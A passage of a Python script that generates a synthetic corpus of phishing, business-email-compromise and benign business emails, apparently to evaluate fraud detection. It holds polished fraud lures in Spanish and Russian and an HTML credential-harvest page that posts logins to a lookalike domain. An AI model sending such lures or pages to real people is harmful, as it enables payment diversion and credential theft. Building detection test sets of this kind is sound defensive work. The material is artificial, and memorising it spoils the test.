Te comunicamos que hemos cambiado de entidad bancaria y a partir de este mes os rogamos que realicéis todos los pagos (incluida la cert. 7 por importe de 52.906,80 € una vez descontada la retención del 5 %) en la nueva cuenta:

Titular: CLIMATIZACIONES LEVANTE S.L.
IBAN: {F['climalevante_fraud']}

Te adjunto el certificado de titularidad emitido por el banco. La cuenta antigua de CaixaBank quedará cancelada a final de mes, por lo que cualquier transferencia a ella sería devuelta.

Un saludo,

Rosa Martí
Departamento de Administración
Climatizaciones Levante S.L.
Av. Tres Forques 98, 46014 València
Tel. 963 502 118

-----Mensaje original-----
De: Lucía Fernández Ortega <l.fernandez@examplegroup.eu>
Enviado el: martes, 24 de marzo de 2026 10:05
Para: administracion@climalevante.es
Asunto: Certificación nº 7 – Residencial Castellana Norte – retención y pago

Hola Rosa:

Os confirmo que la certificación nº 7 está aprobada por Javier (jefe de obra). Se pagará por confirming el día 10 de abril, descontando el 5 % de retención de garantía según contrato.

Un saludo,
Lucía Fernández Ortega
Administración – Example Group Instalaciones S.L.U.
'''),
  atts=[('Certificado_titularidad_cuenta.pdf', 'application/pdf', _cert)],
  note='Compromised real Spanish subcontractor mailbox (sent from their hosting) with Reply-To lookalike; bank-change in the progress-certificate thread with a fake ownership certificate PDF; valid ES IBAN incl. national check digits.')

# ---- 33 es: fake PLACSP award notice – documentation request
_pcsp = 'https://contrataciondelestado-pcsp.es/wps/portal/licitante/acceso?exp=2026-SER-0117'
A(33, 'es', frm=('Plataforma de Contratación del Sector Público', 'notificaciones@contrataciondelestado-pcsp.es'), to=S['morales'],
  subj='Comunicación: requerimiento de documentación previa a la adjudicación (art. 150.2 LCSP) – Expediente 2026/OBR/0117',
  date='2026-03-17 12:11:37', route=dict(kind='saas', host='mta-eu-west-3.mailjet.com', ip='87.253.232.144', inner='mailjet-out-17.prod.eu-west-3'),
  text=T(f'''
Estimado licitador:

Le comunicamos que, tras la valoración de las ofertas presentadas en el procedimiento abierto "Sustitución de enfriadoras y renovación de la instalación de climatización del Centro de Salud Valdebernardo" (Expediente 2026/OBR/0117), la Mesa de Contratación ha propuesto la adjudicación a favor de su empresa.

De conformidad con el artículo 150.2 de la Ley 9/2017, de Contratos del Sector Público, deberá presentar en el plazo de DIEZ DÍAS HÁBILES la documentación justificativa (certificados de estar al corriente con la AEAT y la Seguridad Social, garantía definitiva del 5 % del importe de adjudicación y documentación acreditativa de la solvencia).

Acceda a la comunicación y al formulario de presentación:
{_pcsp}

De no cumplimentarse adecuadamente el requerimiento en el plazo señalado, se entenderá que el licitador ha retirado su oferta.

Plataforma de Contratación del Sector Público
Ministerio de Hacienda
'''),
  note='Fake Spanish public-procurement platform (PLACSP) "you are the proposed awardee" lure, art. 150.2 LCSP deadline; lookalike domain via Mailjet; credential phishing.')

# ---- 34 es: fake burofax, malware via genuine OneDrive short link
A(34, 'es', frm=('Burofax Online', 'burofax@correos-burofax-online.com'), to=S['fernandez'],
  subj='Burofax con certificación de texto y acuse de recibo pendiente – Nº BF-2026-0338172',
  date='2026-03-19 07:42:58', cs='iso-8859-15',
  route=dict(kind='postfix', host='mail.correos-burofax-online.com', rdns='unknown', ip='91.92.243.17'),
  text=T('''
Estimado/a cliente:

Tiene un burofax con certificación de texto y acuse de recibo pendiente de entrega, remitido por DESPACHO JURÍDICO ALCÁNTARA & ASOCIADOS en nombre de ALQUILERES Y GRÚAS DEL HENARES S.L., relativo a reclamación extrajudicial de cantidad.

Nº de envío: BF-2026-0338172
Intentos de entrega fallidos: 2

Puede consultar y descargar el contenido del burofax aquí:
https://1drv.ms/u/c/4f2e81a9d03b7c15/EcR4pL9xQ2ZBm7yT0aVh3kUB8nW

Si no retira el envío en un plazo de 5 días, se procederá a su devolución al remitente, lo que podrá tener efectos legales.

Atentamente,
Servicio de Burofax Online
'''),
  note='Fake burofax/legal claim notice from a lookalike Correos-style domain; genuine OneDrive short link hosting a malware download; ISO-8859-15.')

# ---- 35 es: BEC spoofing the site manager's exact address with a Reply-To
A(35, 'es', frm=S['morales'], to=S['fernandez'], reply_to=('Javier Morales Ruiz', 'j.morales.obra@proton.me'),
  subj='Urgente: pago alquiler grúa – Residencial Castellana Norte', date='2026-03-27 08:17:29',
  route=dict(kind='postfix', host='vmi2238871.contaboserver.net', rdns='vmi2238871.contaboserver.net', ip='185.217.127.84'),
  text=T(f'''
Lucía, buenos días:

necesito que hoy salga sin falta una transferencia de 12.860,00 € a Grúas y Plataformas Henares para la grúa autopropulsada de la obra. Nos han avisado de que si el lunes no está pagado retiran la máquina y nos quedamos sin poder izar las enfriadoras a cubierta, con la penalización que eso supone con la promotora.

Ya lo he hablado con Katrin y está de acuerdo; la factura te la paso el lunes en cuanto me la firmen.

Titular: GRÚAS Y PLATAFORMAS HENARES S.L.
IBAN: {F['gruas_fraud']}
Concepto: Alquiler grúa marzo – obra Castellana Norte

Estoy en obra con la dirección facultativa toda la mañana, contéstame por aquí cuando esté hecha.

Gracias,
Javier

Enviado desde mi iPhone
'''),
  note='BEC: exact spoof of the Spanish site manager\'s internal address from an external Contabo VPS, Reply-To to Proton Mail; urgent crane-rental payment to a valid ES IBAN, "already approved by the CFO".')

# ---- 36 ru: fake FNS demand, zip with .lnk-like file, KOI8-R
_lnk = b'L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F' + b'\x00' * 56 + \
       'evaluation sample: truncated inert shortcut stub'.encode('utf-16-le')
A(36, 'ru', frm=('ФНС России – Межрайонная ИФНС № 24', 'uvedomlenie@nalog-trebovanie.ru'), to=S['lebedeva'],
  subj='Требование о представлении пояснений (ст. 88 НК РФ) № 14-27/3318 от 11.03.2026',
  date=('2026-03-11 09:37:20', '+0300'), cs='koi8-r',
  route=dict(kind='postfix', host='mail.nalog-trebovanie.ru', rdns='unknown', ip='95.142.46.208'),
  text=T('''
Уважаемый налогоплательщик!

В ходе камеральной налоговой проверки декларации по НДС за 4 квартал 2025 года выявлены расхождения (ошибки и противоречия) между сведениями, содержащимися в представленной декларации, и сведениями, имеющимися у налогового органа.

В соответствии с п. 3 ст. 88 НК РФ Вам необходимо в течение пяти рабочих дней представить пояснения или внести исправления в налоговую декларацию.

Требование и перечень расхождений во вложении (архив защищён, пароль: 3318).

Непредставление пояснений в установленный срок влечёт ответственность по ст. 129.1 НК РФ, а также может стать основанием для приостановления операций по счетам.

Межрайонная ИФНС России № 24 по г. Санкт-Петербургу
'''),
  atts=[('Требование_14-27_3318.zip', 'application/zip', zip_bytes([('Требование_14-27_3318.pdf.lnk', _lnk)]))],
  note='Fake Russian tax service (FNS) demand for explanations with account-freeze threat; ZIP with .pdf.lnk shortcut (inert stub), Cyrillic filename; KOI8-R QP.')

# ---- 37 ru: fake-boss scam (move to Telegram / "curator"), windows-1251
A(37, 'ru', frm=('Андрей Соколов', 'a.sokolov.spb@mail.ru'), to=S['lebedeva'],
  subj='Ольга, срочно', date=('2026-03-16 10:05:48', '+0300'), cs='windows-1251', cte='b64',
  route=dict(kind='saas', host='smtp49.i.mail.ru', ip='95.163.41.87', inner='f745.i.mail.ru'),
  hdrs=[('X-Mailer', 'Mail.Ru Mailer 1.0')],
  text=T('''
Ольга, добрый день.

Пишу с личной почты, рабочая временно заблокирована. Сегодня в течение дня с Вами свяжется сотрудник Центрального банка по поводу проверки операций нашего филиала – в отношении одного из наших контрагентов возбуждено уголовное дело, счета могут арестовать.

Прошу оказать полное содействие и выполнять его указания. Информация строго конфиденциальная, в офисе никому не сообщайте, в том числе Дмитрию, пока ситуация не прояснится. Меня не набирайте, я на совещании в Москве.

Для оперативной связи напишите мне в Telegram: @sokolov_andrey_spb

Андрей Соколов
'''),
  note='Russian "fake boss" scam: branch director impersonated from mail.ru, announces a "Central Bank officer" call, secrecy, move to Telegram; windows-1251 base64.')

# ---- 38 ru: lookalike supplier, reconciliation act as HTML login page
_ru_html = T('''
<!DOCTYPE html><html lang="ru"><head><meta charset="utf-8"><title>Яндекс 360 – Документы</title></head>
<body style="font-family:Arial;background:#f5f5f5"><div style="width:380px;margin:80px auto;background:#fff;padding:32px;border-radius:12px">
<h3>Акт сверки взаимных расчётов за I квартал 2026 г.</h3>
<p>Документ защищён. Для просмотра войдите в корпоративную почту.</p>
<form action="https://docs-yandex360.ru.com/auth/check" method="post">
<input name="login" value="o.lebedeva@examplegroup.eu" style="width:100%"><br><br>
<input name="password" type="password" placeholder="Пароль" style="width:100%"><br><br>
<button type="submit">Открыть документ</button></form></div></body></html>
''')
A(38, 'ru', frm=('ООО «СеверТеплоМонтаж» Бухгалтерия', 'buh@stm-spb.com'), to=S['lebedeva'],
  subj='Акт сверки взаимных расчётов за I квартал 2026 г.', date=('2026-04-02 11:12:33', '+0300'),
  route=dict(kind='postfix', host='mail.stm-spb.com', rdns='unknown', ip='31.41.244.162'),
  text=T('''
Добрый день!

Направляем акт сверки взаимных расчётов по договору субподряда № СП-07/25 за I квартал 2026 года. Просим проверить, подписать и вернуть скан в течение 3 рабочих дней. При наличии расхождений просим сообщить.

Акт во вложении.

С уважением,
Бухгалтерия ООО «СеверТеплоМонтаж»
тел. (812) 648-32-17
'''),
  atts=[('Акт_сверки_1кв2026.html', 'text/html', _ru_html)],
  note='Lookalike of a real Russian subcontractor (stm-spb.com vs stm-spb.ru); "reconciliation act" delivered as an HTML attachment that is a Yandex 360 credential-harvest page.')

# ---- 39 ru: fake closed tender, advance-fee on fake e-trading platform
A(39, 'ru', frm=('Отдел закупок ГК «Невский Девелопмент»', 'tender@nevskiy-development.ru'), to=S['sokolov'],
  cc=[S['kuznetsov']],
  subj='Приглашение к участию в закрытом отборе подрядчиков: монтаж систем ОВиК, ЖК «Охта Парк», 2-я очередь',
  date=('2026-03-18 14:26:09', '+0300'), cs='windows-1251',
  route=dict(kind='saas', host='forward101a.mail.yandex.net', ip='178.154.239.136', inner='mail-nwsmtp-smtp-production-main-39.vla.yp-c.yandex.net'),
  text=T('''
Уважаемый Андрей Викторович!

Группа компаний «Невский Девелопмент» приглашает ООО «Экзампл Групп Инжиниринг» принять участие в закрытом отборе подрядчиков на выполнение работ по монтажу систем отопления, вентиляции и кондиционирования на объекте ЖК «Охта Парк», 2-я очередь (корпуса 4–6). Ориентировочная стоимость работ – 186 млн руб. с НДС.

Отбор проводится на электронной торговой площадке «ТендерПлюс». Для получения доступа к документации необходимо:
1. Зарегистрироваться на площадке https://etp-tenderplus.ru/registration
2. Оплатить гарантийное обеспечение участия – 47 500 руб. (возвращается всем участникам после подведения итогов)
3. Загрузить выписку из реестра членов СРО и бухгалтерскую отчётность за 2025 год.

Срок подачи заявок – до 25.03.2026 18:00 (МСК). Просим подтвердить участие ответным письмом.

С уважением,
Руководитель тендерного отдела
Громова Елена Сергеевна
ГК «Невский Девелопмент»
'''),
  note='Fake tender invitation impersonating a real developer client (lookalike nevskiy-development.ru vs nevdev.ru) sent through Yandex; advance-fee "participation guarantee" payable on a fake e-trading platform.')

# ---- 40 ru: compromised supplier, bank details change letter, KOI8-R base64
RU_BIK_FRAUD = '044525974'  # Moscow bank BIK
_acct_fraud = ru_account(RU_BIK_FRAUD, '40702810010000418273')
_corr_fraud = '30101810145250000974'
_inn_tk = ru_inn10('781400521')
_ru_letter = pdf_bytes(['#OOO "TeploKomplekt"', f'INN {_inn_tk} / KPP 781401001', '',
                        'Pismo ob izmenenii bankovskikh rekvizitov (Letter on change of bank details)', '',
                        f'r/s {_acct_fraud}', f'BIK {RU_BIK_FRAUD}', f'k/s {_corr_fraud}', '',
                        'General\'nyi direktor  /-/  S.V. Belov'], 'Pismo')
A(40, 'ru', frm=('ООО «ТеплоКомплект» Бухгалтерия', 'buh@teplokomplekt-spb.ru'), to=S['kuznetsov'],
  cc=[S['lebedeva']],
  subj='Письмо об изменении банковских реквизитов ООО «ТеплоКомплект»', date=('2026-03-26 15:48:52', '+0300'),
  cs='koi8-r', cte='b64',
  route=dict(kind='saas', host='forward500b.mail.yandex.net', ip='178.154.239.80', inner='mail-nwsmtp-smtp-production-main-57.klg.yp-c.yandex.net'),
  text=T(f'''
Добрый день, Дмитрий!

Сообщаем, что в связи с переходом на обслуживание в другой банк с 30.03.2026 изменились банковские реквизиты ООО "ТеплоКомплект". Прежний расчётный счёт закрывается, платежи на него с указанной даты приниматься не будут.

Новые реквизиты:
Получатель: ООО "ТеплоКомплект"
ИНН {_inn_tk} / КПП 781401001
Р/с {_acct_fraud}
в АО "ТОЧКА-ФИНАНС"
БИК {RU_BIK_FRAUD}
К/с {_corr_fraud}

Просим оплату по счетам № 512 и № 518 (радиаторы, узлы обвязки, объект ЖК "Охта Парк") произвести уже по новым реквизитам. Официальное письмо за подписью генерального директора во вложении, оригинал направим почтой.

С уважением,
Бухгалтерия ООО "ТеплоКомплект"
тел. (812) 407-19-55
'''),
  atts=[('Письмо_о_смене_реквизитов.pdf', 'application/pdf', _ru_letter)],
  note='Compromised Russian supplier mailbox (Yandex 360 hosting) sending a bank-details change letter for open invoices to purchasing; Russian account/INN check digits valid; KOI8-R base64.')

# ================================================================= BUSINESS
# ---- 01 de: genuine supplier invoice with PDF + XRechnung XML
_inv_pdf = pdf_bytes(['#Lieferant GmbH', 'Industriestrasse 14 - 70565 Stuttgart - USt-IdNr. DE811457302', '',
                      'Example Group SE, Kreditorenbuchhaltung, Heilbronner Strasse 150, 70191 Stuttgart', '',
                      '#Rechnung Nr. 2026-10457', 'Rechnungsdatum: 24.02.2026   Lieferdatum: 20.02.2026',
                      'Ihre Bestellung: 4500118734   Projekt: Klinikum Nordstadt BA 2', '',
                      'Pos 1  RLT-Geraet RLT-08 Hygieneausfuehrung VDI 6022, 12.000 m3/h   1 Stk   38.940,00',
                      'Pos 2  Brandschutzklappen BSK-K90 DN 400 inkl. Stellantrieb       14 Stk    6.538,00',
                      'Pos 3  Fracht und Verpackung                                          1 psch     420,00', '',
                      'Nettobetrag 45.898,00 EUR   USt 19 % 8.720,62 EUR   Gesamt 54.618,62 EUR', '',
                      'Zahlbar innerhalb 30 Tagen netto, bei Zahlung binnen 10 Tagen 2 % Skonto.',
                      f'Volksbank Stuttgart eG - IBAN {F["lief_old"]} - BIC VOBADESSXXX'], 'Rechnung 2026-10457')
_xr = T(f'''
<?xml version="1.0" encoding="UTF-8"?>
<rsm:CrossIndustryInvoice xmlns:rsm="urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100" xmlns:ram="urn:un:unece:uncefact:data:standard:ReusableAggregateBusinessInformationEntity:100" xmlns:udt="urn:un:unece:uncefact:data:standard:UnqualifiedDataType:100">
 <rsm:ExchangedDocumentContext><ram:GuidelineSpecifiedDocumentContextParameter><ram:ID>urn:cen.eu:en16931:2017#compliant#urn:xeinkauf.de:kosit:xrechnung_3.0</ram:ID></ram:GuidelineSpecifiedDocumentContextParameter></rsm:ExchangedDocumentContext>
 <rsm:ExchangedDocument><ram:ID>2026-10457</ram:ID><ram:TypeCode>380</ram:TypeCode><ram:IssueDateTime><udt:DateTimeString format="102">20260224</udt:DateTimeString></ram:IssueDateTime></rsm:ExchangedDocument>
 <rsm:SupplyChainTradeTransaction>
  <ram:ApplicableHeaderTradeAgreement><ram:BuyerReference>4500118734</ram:BuyerReference>
   <ram:SellerTradeParty><ram:Name>Lieferant GmbH</ram:Name><ram:SpecifiedTaxRegistration><ram:ID schemeID="VA">DE811457302</ram:ID></ram:SpecifiedTaxRegistration></ram:SellerTradeParty>
   <ram:BuyerTradeParty><ram:Name>Example Group SE</ram:Name></ram:BuyerTradeParty></ram:ApplicableHeaderTradeAgreement>
  <ram:ApplicableHeaderTradeSettlement><ram:InvoiceCurrencyCode>EUR</ram:InvoiceCurrencyCode>
   <ram:SpecifiedTradeSettlementPaymentMeans><ram:TypeCode>58</ram:TypeCode><ram:PayeePartyCreditorFinancialAccount><ram:IBANID>{IB['lief_old']}</ram:IBANID></ram:PayeePartyCreditorFinancialAccount></ram:SpecifiedTradeSettlementPaymentMeans>
   <ram:SpecifiedTradeSettlementHeaderMonetarySummation><ram:TaxBasisTotalAmount>45898.00</ram:TaxBasisTotalAmount><ram:TaxTotalAmount currencyID="EUR">8720.62</ram:TaxTotalAmount><ram:GrandTotalAmount>54618.62</ram:GrandTotalAmount><ram:DuePayableAmount>54618.62</ram:DuePayableAmount></ram:SpecifiedTradeSettlementHeaderMonetarySummation>
  </ram:ApplicableHeaderTradeSettlement></rsm:SupplyChainTradeTransaction></rsm:CrossIndustryInvoice>
''')
B(1, 'de', frm=LIEF_RE, to=INBOX_DE, cc=[S['krueger']],
  subj='Rechnung 2026-10457 zu Ihrer Bestellung 4500118734 – Lieferant GmbH', date='2026-02-24 18:02:11',
  route=dict(kind='postfix', host='mout.lieferant-gmbh.de', ip='212.227.126.187', rdns='mout.kundenserver.de', cip='10.10.4.21', chost='erp01.lieferant.local', via='ESMTP'),
  cs='iso-8859-1', hdrs=[('X-Mailer', 'proALPHA Belegversand 9.2')],
  text=T('''
Sehr geehrte Damen und Herren,

anbei erhalten Sie unsere Rechnung Nr. 2026-10457 vom 24.02.2026 zu Ihrer Bestellung 4500118734 (Projekt Klinikum Nordstadt BA 2) als PDF sowie als XRechnung (CII) gemäß § 14 UStG.

Rechnungsbetrag: 54.618,62 EUR
Fällig: 26.03.2026 (2 % Skonto bei Zahlung bis 06.03.2026)

Bei Rückfragen zur Rechnung wenden Sie sich bitte an unsere Buchhaltung, Tel. 0711 7845-110.

Mit freundlichen Grüßen
Lieferant GmbH
Buchhaltung

Diese E-Mail wurde automatisch erzeugt.
'''),
  atts=[('RE_2026-10457.pdf', 'application/pdf', _inv_pdf), ('RE_2026-10457_xrechnung.xml', 'application/xml', _xr)],
  note='Genuine ERP-generated invoice from the known supplier (real domain, usual hosting) with PDF and XRechnung XML, known IBAN; looks risky because it is an unsolicited invoice attachment with payment terms.')

# ---- 02 de: genuine bank-detail change notice from the supplier
_bank_letter = pdf_bytes(['#Lieferant GmbH', 'Industriestrasse 14 - 70565 Stuttgart', '', 'Stuttgart, 20.04.2026', '',
                          '#Aenderung unserer Bankverbindung zum 01.06.2026', '',
                          'Sehr geehrte Geschaeftspartner,',
                          'im Zuge der Fusion der Volksbank Stuttgart eG mit der ... fuehren wir unseren',
                          'Zahlungsverkehr ab dem 01.06.2026 ueber die Commerzbank AG:', '',
                          f'IBAN {F["lief_new"]}   BIC COBADEFFXXX', '',
                          'Bis 30.06.2026 eingehende Zahlungen auf das bisherige Konto werden weitergeleitet.',
                          'Bitte verifizieren Sie diese Aenderung telefonisch unter der Ihnen bekannten Rufnummer',
                          '0711 7845-110 (Frau Gerlach, Buchhaltung).', '',
                          'Dr. Frank Wieland, Geschaeftsfuehrer        Petra Gerlach, Leitung Finanzbuchhaltung'], 'Bankverbindung')
B(2, 'de', frm=MAIER, to=S['krueger'], cc=[S['hoffmann'], LIEF_RE],
  subj='Änderung unserer Bankverbindung zum 01.06.2026 – bitte telefonisch verifizieren', date=('2026-04-20 10:26:44', '+0200'),
  route=dict(kind='postfix', host='mout.lieferant-gmbh.de', ip='212.227.126.131', rdns='mout.kundenserver.de', pub='91.64.88.17', chost='ip5b405811.dynamic.kabel-deutschland.de'),
  hdrs=[('X-Mailer', 'Microsoft Outlook 16.0'), ('Content-Language', 'de-DE')],
  text=T(f'''
Hallo Frau Krüger,

wie von unserer Frau Gerlach letzte Woche telefonisch angekündigt, schicke ich Ihnen anbei das offizielle Schreiben zur Änderung unserer Bankverbindung. Hintergrund ist die Fusion unserer bisherigen Hausbank; ab dem 01.06.2026 läuft unser Zahlungsverkehr über die Commerzbank:

IBAN {F['lief_new']}
BIC COBADEFFXXX

Bis dahin bitte weiterhin wie gewohnt auf das bisherige Konto bei der Volksbank zahlen. Zahlungen, die bis Ende Juni noch dort eingehen, werden automatisch weitergeleitet – es geht also nichts verloren.

Wir wissen, dass solche Mails gerade ein beliebtes Einfallstor für Betrüger sind. Bitte verifizieren Sie die Änderung deshalb wie bei Ihnen üblich per Rückruf unter der Ihnen bekannten Nummer unserer Buchhaltung (0711 7845-110, Frau Gerlach) und nicht über Kontaktdaten aus einer E-Mail. Das Formular für Ihre Lieferantenstammdaten haben wir ebenfalls ausgefüllt und unterschrieben an Herrn Hoffmann geschickt.

Mit freundlichen Grüßen

Sebastian Maier
Vertrieb Innendienst – Lüftungs- und Klimatechnik
Lieferant GmbH | Industriestraße 14 | 70565 Stuttgart
Tel. +49 711 7845-231 | s.maier@lieferant-gmbh.de
'''),
  atts=[('Schreiben_Bankverbindung_01-06-2026.pdf', 'application/pdf', _bank_letter)],
  note='Genuine bank-detail change from the real supplier domain and usual server, announced by phone beforehand, effective in six weeks, old account still valid, explicitly asks for call-back verification on the known number; looks like payment-diversion fraud (new IBAN + signed PDF).')

# ---- 03 de: genuine e-procurement portal message
_dtvp_real = 'https://www.dtvp.de/Satellite/notice/CXP4YH7R1ZL/messages'
B(3, 'de', frm=('DTVP - Deutsches Vergabeportal', 'noreply@dtvp.de'), to=S['lindner'],
  subj='DTVP: Neue Nachricht zum Verfahren "TGA-Leistungen Erweiterung Berufsschulzentrum, Los 2 HLS"',
  date='2026-03-03 15:41:08', cs='iso-8859-15',
  route=dict(kind='postfix', host='mailout2.dtvp.de', ip='185.17.70.42', cip='10.1.5.31', chost='cosinex-app07', via='ESMTP'),
  text=T(f'''
Sehr geehrte Damen und Herren,

zu folgendem Vergabeverfahren liegt eine neue Nachricht für Sie vor:

Vergabestelle: Landratsamt Esslingen – Kreisbau und Vergabe
Verfahren: Offenes Verfahren (VOB/A EU) – TGA-Leistungen Erweiterung Berufsschulzentrum, Los 2 Heizung/Lüftung/Sanitär
Art der Nachricht: Beantwortung von Bieterfragen (Bieterinformation Nr. 3)

Bitte rufen Sie die Nachricht im Projektraum des Verfahrens ab. Hierzu melden Sie sich im Bietercockpit an:
{_dtvp_real}

Hinweis: Diese E-Mail dient nur Ihrer Information. Verbindlich ist allein der Inhalt der Nachricht im Vergabeportal. Bitte antworten Sie nicht auf diese E-Mail; Kommunikation mit der Vergabestelle ist nur über die Vergabeplattform möglich.

Ihr DTVP-Team
cosinex GmbH
'''),
  note='Genuine notification from the real e-procurement portal domain pointing to the portal (login required); similar to fake attack 03, legit sender infrastructure and domain.')

# ---- 04 de: genuine urgent CEO request (internal)
B(4, 'de', frm=S['brenner'], to=S['vogelsang'], cc=[S['reinholz'], S['krueger'], S['hartmann']],
  subj='Bitte heute noch: Vertragserfüllungsbürgschaft Klinikum Nordstadt BA 2', date='2026-03-04 07:31:52',
  route=dict(kind='int', client='NB-STR-0007', cip='10.20.14.107'), hdrs=[('Importance', 'high'), ('Content-Language', 'de-DE')],
  text=T('''
Katrin,

das Klinikum hat heute früh nochmals angemahnt: Ohne Vertragserfüllungsbürgschaft (5 % der Auftragssumme, 1,42 Mio. €) geben sie die erste Abschlagsrechnung nicht frei, und die Projektsteuerung droht mit Einbehalt nach § 17 VOB/B.

Unser Avalrahmen bei der Commerzbank ist ausreichend. Claudia hat den Bürgschaftstext gestern gegen das Muster aus den Vergabeunterlagen geprüft – passt, ihre Anmerkungen siehe unten bzw. im SharePoint unter Projekte > KN-BA2 > Vertrag > Sicherheiten.

Bitte den Avalauftrag heute noch über das Firmenkundenportal rausgeben, damit das Original bis Freitag beim Klinikum ist. Julia, bitte Kurier für Donnerstag nachmittag einplanen.

Danke und Gruß
Matthias

-- 
Dr. Matthias Brenner
Vorsitzender des Vorstands
Example Group SE | Heilbronner Straße 150 | 70191 Stuttgart

> Von: Dr. Claudia Reinholz
> Gesendet: Dienstag, 3. März 2026 18:12
> Betreff: Bürgschaftstext KN-BA2
>
> Text entspricht dem Formblatt 422 (EFB Sicherheitsleistung), Verzicht auf Einrede der Vorausklage ist drin, befristet bis Abnahme + Übergang in Mängelsicherheit. Aus meiner Sicht freigabefähig.
'''),
  note='Genuine urgent internal request from the CEO via the internal relay, with legal counsel in copy and reference to internal SharePoint and the company\'s own guarantee facility; looks like CEO fraud (urgency, money-related, "today").')

# ---- 05 de: genuine DocuSign envelope
_ds = 'https://eu.docusign.net/Signing/EmailStart.aspx?a=3b1e6f0a-71cc-4d2a-9e18-5c0f47a2d9e3&etti=24&acct=8f20c5d1-2a44-4e5b-b7e3-04d9a6c1f772&er=61d8e0b9-3f57-4c1e-8a2d-9b7c0e4f1a65'
_ds_txt = T(f'''
Elektro Haas GmbH hat Ihnen ein Dokument zum Prüfen und Signieren gesendet.

DOKUMENT PRÜFEN: {_ds}

Sabine Haas
s.haas@elektro-haas.de

Sehr geehrter Herr Hoffmann,
anbei wie besprochen der Nachunternehmervertrag für das BV Feuerwache Süd (Elektro, Los 4) mit den in der Verhandlung am 05.03. vereinbarten Änderungen (Sicherheitseinbehalt 5 %, Vertragsstrafe gedeckelt auf 5 %). Bitte digital gegenzeichnen.
Mit freundlichen Grüßen, Sabine Haas

Leiten Sie diese E-Mail nicht weiter: Der Link ermöglicht jedem Empfänger den Zugriff auf das Dokument.

Zugriffscode: Sie können auch über docusign.com mit dem Sicherheitscode 61D8E0B93F574C1E8A2D9B7C0E4F1A652 auf das Dokument zugreifen.
''')
B(5, 'de', frm=('Sabine Haas über Docusign', 'dse@eumail.docusign.net'), to=S['hoffmann'], reply_to=('Sabine Haas', 's.haas@elektro-haas.de'),
  subj='Bitte mit Docusign unterzeichnen: NU-Vertrag_EH_2026-031_Feuerwache_Sued.pdf', date='2026-03-06 14:55:20',
  route=dict(kind='saas', host='mailfr.eumail.docusign.net', ip='185.10.62.45', inner='fra-docusign-mta-03'),
  text=_ds_txt, html=auto_html(_ds_txt, 'Helvetica, Arial, sans-serif'),
  note='Genuine DocuSign envelope from DocuSign\'s EU mail domain for a subcontract already negotiated; Reply-To the real subcontractor contact; looks like the fake DocuSign in attack 07.')

# ---- 06 de: genuine IT notice about MFA (internal)
B(6, 'de', frm=S['schaefer'], to=('Alle Mitarbeitenden DE', 'alle-de@example.com'), rcpt='alle-de@example.com',
  subj='Wichtig: Umstellung der Mehrfaktor-Anmeldung auf Microsoft Authenticator bis 27.03.', date='2026-03-09 08:05:00',
  route=dict(kind='int', client='ADM-STR-IT02', cip='10.20.2.12'),
  text=T('''
Liebe Kolleginnen und Kollegen,

ab dem 30.03.2026 ist die Anmeldung per SMS-Code für Microsoft 365 (Outlook, Teams, SharePoint) nicht mehr möglich. Bitte richten Sie bis Freitag, 27.03., die Microsoft-Authenticator-App auf Ihrem Diensthandy ein:

1. Authenticator-App aus dem Company Portal installieren (nicht aus dem App Store).
2. Am PC https://aka.ms/mfasetup aufrufen, mit Ihrem Firmenkonto anmelden und "Anmeldemethode hinzufügen > Authenticator-App" wählen.
3. Den angezeigten QR-Code mit der App scannen.

Wichtig:
- Bestätigen Sie Anmeldeanfragen nur, wenn Sie sich gerade selbst anmelden. Unerwartete Anfragen bitte sofort an die IT melden.
- Wir fragen Sie NIE per E-Mail oder Telefon nach Ihrem Passwort oder nach angezeigten Codes.
- Verdächtige Mails bitte über den Button "Phishing melden" in Outlook melden.

Eine bebilderte Anleitung finden Sie im Intranet unter IT > Anleitungen > MFA. Bei Fragen: Hotline -444 oder it-support@example.com.

Viele Grüße
Tobias Schäfer
IT-Administration / Modern Workplace
Example Group SE
'''),
  note='Genuine internal IT announcement via the internal relay with an aka.ms MFA-setup link and QR-code instructions; resembles credential-phishing/quishing lures.')

# ---- 07 de: genuine 2nd dunning letter from equipment rental
_mahn = pdf_bytes(['#Baumaschinen Reuter GmbH & Co. KG', 'Mietpark Stuttgart-Feuerbach | Kundennr. 204417', '',
                   '#2. Mahnung', 'Datum: 07.04.2026', '',
                   'Re.-Nr.   Datum       Mietgegenstand                                Betrag',
                   'MR-26-3114 05.02.2026  Scherenbuehne Genie GS-3246, 4 Wo.            2.982,40',
                   'MR-26-3390 19.02.2026  Minibagger 1,8 t inkl. Transport              1.874,25',
                   'Mahngebuehr                                                              10,00',
                   'Offener Betrag                                                        4.866,65 EUR', '',
                   f'BW-Bank  IBAN {F["reuter"]}  BIC SOLADEST600'], '2. Mahnung')
B(7, 'de', frm=('Baumaschinen Reuter – Debitorenbuchhaltung', 'buchhaltung@reuter-baumaschinen.de'), to=S['krueger'],
  cc=[S['orlowski']], subj='2. Mahnung – Kundennr. 204417 – Mietrechnungen BV Klinikum Nordstadt', date=('2026-04-07 09:12:37', '+0200'),
  route=dict(kind='o365', ip='40.107.162.110', pfx='BE1P281', reg='DEUP281', rdns='de2deu01on2110', helo='DEU01-FR2-obe.outbound.protection.outlook.com'),
  text=T('''
Sehr geehrte Damen und Herren,

trotz unserer Zahlungserinnerung vom 17.03.2026 konnten wir für die im Anhang aufgeführten Mietrechnungen (BV Klinikum Nordstadt, Besteller: Herr Orlowski) bisher keinen Zahlungseingang feststellen.

Offener Betrag inkl. Mahngebühr: 4.866,65 EUR

Bitte überweisen Sie den Betrag bis spätestens 17.04.2026 auf unser bekanntes Konto. Sollte bis dahin kein Zahlungseingang erfolgen, müssen wir Ihr Kundenkonto für weitere Anmietungen leider sperren.

Sollte sich Ihre Zahlung mit diesem Schreiben überschnitten haben oder sind Rechnungen aus Ihrer Sicht strittig (z. B. wegen fehlender Lieferscheine), melden Sie sich bitte kurz bei uns.

Mit freundlichen Grüßen

Melanie Brändle
Debitorenbuchhaltung
Baumaschinen Reuter GmbH & Co. KG
Tel. 0711 81 47 93-30
'''),
  atts=[('2_Mahnung_204417.pdf', 'application/pdf', _mahn)],
  note='Genuine second dunning letter from the equipment-rental company (their M365 tenant) with the long-known IBAN and the site manager in copy; pressure/account-block wording resembles invoice fraud.')

# ---- 08 en: genuine subcontractor application for payment (PDF)
_afp = pdf_bytes(['#Northbridge Mechanical Ltd', 'Application for Payment No. 13 - Ward Block C Refurbishment', 'Valuation date: 31/01/2026',
